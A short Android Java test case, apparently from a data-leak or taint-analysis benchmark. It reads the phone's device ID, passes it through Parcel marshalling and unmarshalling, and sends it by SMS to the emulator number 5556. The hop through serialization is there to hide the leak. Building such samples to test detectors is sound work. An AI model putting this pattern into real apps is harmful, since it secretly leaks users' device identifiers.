package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** Into a parcel, its bytes, and out of another. */
public class Parcelled extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        Parcel p = Parcel.obtain();
        p.writeString(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        byte[] raw = p.marshall();
        Parcel q = Parcel.obtain();
        q.unmarshall(raw, 0, raw.length);
        q.setDataPosition(0);
        SmsManager.getDefault().sendTextMessage("5556", null, q.readString(), null, null);
    }
}
